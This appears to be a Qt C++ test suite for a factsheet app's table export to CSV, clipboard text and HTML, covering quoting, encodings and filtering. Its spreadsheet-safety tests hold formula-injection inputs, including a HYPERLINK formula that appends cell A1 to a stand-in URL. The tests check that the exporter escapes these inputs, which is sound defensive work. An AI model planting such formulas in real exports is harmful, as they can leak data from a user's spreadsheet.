// The funding lines out to spreadsheets: CSV against golden files (RFC 4180 quoting, UTF-8 with and
// without a byte-order mark, the normalised column named by its denominator and empty where
// refused), the table as shown through its proxy, and the clipboard's tab-separated text and HTML.
#include "embeddedfactsheet.h"
#include "factsheetmodel.h"
#include "fundinglinesproxymodel.h"
#include "outputfile.h"
#include "tableexport.h"

#include <QAbstractItemModelTester>
#include <QDir>
#include <QFile>
#include <QTemporaryDir>
#include <QTest>

using namespace Qt::StringLiterals;

namespace {

QByteArray golden(const QString &name)
{
    QFile file(QStringLiteral(FACTSHEET_TEST_DATA) + u'/' + name);
    if (!file.open(QIODevice::ReadOnly))
        qFatal("missing golden file %s", qPrintable(name));
    return file.readAll();
}

struct Fixture
{
    Fixture() { model.setFactsheet(embeddedFactsheet()); }
    FactsheetModel model;
    QAbstractItemModelTester tester {&model, QAbstractItemModelTester::FailureReportingMode::Fatal};
};

} // namespace

class TestTableExport final : public QObject
{
    Q_OBJECT

private slots:
    void csvInDocumentOrder();
    void csvNormalisedWithByteOrderMark();
    void csvQuoting_data();
    void csvQuoting();
    void theTableAsShown();
    void clipboardTextAndHtmlOfSelectedRows();
    void outputFileChecksAndWrites();
    void spreadsheetSafe_data();
    void spreadsheetSafe();
    void formulasNeverReachASpreadsheet();
};

void TestTableExport::csvInDocumentOrder()
{
    Fixture fixture;
    QCOMPARE(TableExport::csv(&fixture.model), golden(u"funding-lines.csv"_s));
    // Lines end CRLF, £ is UTF-8, the first line names every column.
    const QByteArray csv = TableExport::csv(&fixture.model);
    QVERIFY(csv.startsWith("Recipient or project,Purpose,Category,Amount (\xC2\xA3),Amount as shown,Fund,Location,"
                           "Scope,Source sentence\r\n"));
    QCOMPARE(csv.count("\r\n"), 6);
}

void TestTableExport::csvNormalisedWithByteOrderMark()
{
    Fixture fixture;
    fixture.model.setNormalisation(Normalisation::PerResident);
    const QByteArray csv = TableExport::csv(&fixture.model, true);
    QVERIFY(csv.startsWith("\xEF\xBB\xBF"));
    QCOMPARE(csv.mid(3), golden(u"funding-lines-per-resident.csv"_s));
    // The national line's cell is empty: refused, never divided.
    QVERIFY(csv.contains("throughout the United Kingdom.\",\r\n"));
    QCOMPARE(TableExport::headers(&fixture.model).last(), u"Amount per resident (population 1,126,200)"_s);
}

void TestTableExport::csvQuoting_data()
{
    QTest::addColumn<QString>("field");
    QTest::addColumn<QString>("expected");
    QTest::newRow("plain") << u"Cobra Biologics"_s << u"Cobra Biologics"_s;
    QTest::newRow("comma") << u"Research, training"_s << u"\"Research, training\""_s;
    QTest::newRow("quote") << u"the \"STC\""_s << u"\"the \"\"STC\"\"\""_s;
    QTest::newRow("new line") << u"two\nlines"_s << u"\"two\nlines\""_s;
    QTest::newRow("carriage return") << u"a\rb"_s << u"\"a\rb\""_s;
    QTest::newRow("pound sign") << u"£2.6m"_s << u"£2.6m"_s;
    QTest::newRow("empty") << QString() << QString();
}

void TestTableExport::csvQuoting()
{
    QFETCH(QString, field);
    QFETCH(QString, expected);
    QCOMPARE(TableExport::csvField(field), expected);
}

void TestTableExport::theTableAsShown()
{
    Fixture fixture;
    FundingLinesProxyModel proxy;
    QAbstractItemModelTester proxyTester(&proxy, QAbstractItemModelTester::FailureReportingMode::Fatal);
    proxy.setSourceModel(&fixture.model);
    proxy.sort(FactsheetModel::TitleColumn, Qt::AscendingOrder);
    proxy.setFilterText(u"infrastructure"_s);
    QStringList titles;
    for (const QStringList &cells : TableExport::rows(&proxy))
        titles << cells.first();
    // Filtered (housing, Bericote and the national line's purpose) and sorted as the table is.
    QCOMPARE(titles,
             (QStringList {u"Bericote Four Ashes Business Park"_s, u"Housebuilding infrastructure"_s,
                           u"Industrial Strategy programmes"_s}));
}

void TestTableExport::clipboardTextAndHtmlOfSelectedRows()
{
    Fixture fixture;
    fixture.model.setNormalisation(Normalisation::ShareOfLocalTotal);
    const int cobra = fixture.model.indexOfEntity(u"fundingLine/cobra-biologics"_s).row();
    const int housing = fixture.model.indexOfEntity(u"fundingLine/housebuilding-infrastructure"_s).row();
    const QString text = TableExport::tabSeparated(&fixture.model, {cobra, housing});
    QCOMPARE(text,
             u"Recipient or project\tPurpose\tCategory\tAmount (£)\tAmount as shown\tFund\tLocation\tScope\tSource "
             u"sentence\tShare of the local total (£17,400,000)\n"
             u"Cobra Biologics\tDevelop cell and gene therapy products that can improve and even save lives, including "
             u"helping turn scientific discoveries into medicines ready for patients\tLife sciences\t2600000\t"
             u"£2,600,000\t\t\tLocal\t£2.6m to Cobra Biologics to develop cell and gene therapy products that can "
             u"improve and even save lives, including helping turn scientific discoveries into medicines ready for "
             u"patients.\t14.9\n"
             u"Housebuilding infrastructure\tAccelerate housebuilding by providing the vital infrastructure to access "
             u"new and existing sites\tHousing\t10000000\t£10,000,000\t\t\tLocal\t£10m to accelerate housebuilding "
             u"by providing the vital infrastructure to access new and existing sites.\t57.5\n"_s);
    const QString html = TableExport::htmlTable(&fixture.model, {cobra});
    QVERIFY(html.startsWith(u"<table><thead><tr><th>Recipient or project</th>"_s));
    QVERIFY(html.contains(u"<td>2600000</td><td>£2,600,000</td>"_s)); // a number cell beside the formatted one
    QVERIFY(html.endsWith(u"<td>14.9</td></tr></tbody></table>"_s));
    QCOMPARE(html.count(u"<tr>"_s), 2);
}

void TestTableExport::outputFileChecksAndWrites()
{
    QTemporaryDir folder;
    const QString path = folder.filePath(u"lines.csv"_s);
    QCOMPARE(OutputFile::check(path), std::nullopt);
    QCOMPARE(OutputFile::save(path, "a,b\r\n"), std::nullopt);
    QFile file(path);
    QVERIFY(file.open(QIODevice::ReadOnly));
    QCOMPARE(file.readAll(), QByteArray("a,b\r\n"));
    QCOMPARE(OutputFile::check(folder.filePath(u"none/lines.csv"_s)),
             u"%1/none/lines.csv: the folder %1/none does not exist"_s.arg(folder.path()));
    QCOMPARE(OutputFile::check(folder.path()), u"%1: is a folder, not a file"_s.arg(folder.path()));
    QCOMPARE(QDir(folder.path()).entryList(QDir::Files), QStringList {u"lines.csv"_s});
}

void TestTableExport::spreadsheetSafe_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QString>("safe");
    QTest::newRow("plain") << u"Cobra Biologics"_s << u"Cobra Biologics"_s;
    QTest::newRow("=") << u"=HYPERLINK(\"http://x.test\",\"Click\")"_s << u"'=HYPERLINK(\"http://x.test\",\"Click\")"_s;
    QTest::newRow("+") << u"+44 1782"_s << u"'+44 1782"_s;
    QTest::newRow("-") << u"-2+3"_s << u"'-2+3"_s;
    QTest::newRow("@") << u"@SUM(A1:A9)"_s << u"'@SUM(A1:A9)"_s;
    QTest::newRow("tab") << u"\t=1+1"_s << u"'\t=1+1"_s;
    QTest::newRow("carriage return") << u"\r=1+1"_s << u"'\r=1+1"_s;
    QTest::newRow("= inside") << u"a=b"_s << u"a=b"_s;
    QTest::newRow("£ first") << u"£2.6m"_s << u"£2.6m"_s;
    QTest::newRow("empty") << QString() << QString();
}

void TestTableExport::spreadsheetSafe()
{
    QFETCH(QString, text);
    QFETCH(QString, safe);
    QCOMPARE(TableExport::spreadsheetSafe(text), safe);
}

void TestTableExport::formulasNeverReachASpreadsheet()
{
    // Cobra Biologics' line with a formula in every text cell a reader could fill.
    Factsheet factsheet = embeddedFactsheet();
    FundingLine &cobra = factsheet.fundingLines.front();
    cobra.title = u"=HYPERLINK(\"http://x.test/?\"&A1,\"Click\")"_s;
    cobra.purpose = u"+1 more"_s;
    cobra.category = u"-2"_s;
    cobra.fund = u"@SUM(A1)"_s;
    cobra.location = u"\tTab"_s;
    cobra.source = u"\r=1+1"_s;
    FactsheetModel model;
    QAbstractItemModelTester tester(&model, QAbstractItemModelTester::FailureReportingMode::Fatal);
    model.setFactsheet(factsheet);
    const int row = model.indexOfEntity(u"fundingLine/cobra-biologics"_s).row();

    const QByteArray csv = TableExport::csv(&model);
    const QList<QByteArray> lines = csv.split('\n');
    QCOMPARE(QString::fromUtf8(lines.at(1)),
             u"\"'=HYPERLINK(\"\"http://x.test/?\"\"&A1,\"\"Click\"\")\",'+1 more,'-2,2600000,\"£2,600,000\",'@SUM(A1),"
             u"'\tTab,Local,\"'\r=1+1\"\r"_s);
    // The clipboard: a cell made one line is made safe as it then begins.
    QCOMPARE(TableExport::tabSeparated(&model, {row}).split(u'\n').at(1),
             u"'=HYPERLINK(\"http://x.test/?\"&A1,\"Click\")\t'+1 more\t'-2\t2600000\t£2,600,000\t'@SUM(A1)\tTab\t"
             u"Local\t'=1+1"_s);
    QCOMPARE(TableExport::htmlTable(&model, {row}).section(u"<tbody>"_s, 1),
             u"<tr><td>'=HYPERLINK(&quot;http://x.test/?&quot;&amp;A1,&quot;Click&quot;)</td><td>'+1 more</td>"
             u"<td>'-2</td><td>2600000</td><td>£2,600,000</td><td>'@SUM(A1)</td><td>'\tTab</td><td>Local</td>"
             u"<td>'\r=1+1</td></tr></tbody></table>"_s);
}

QTEST_GUILESS_MAIN(TestTableExport)
#include "tst_tableexport.moc"
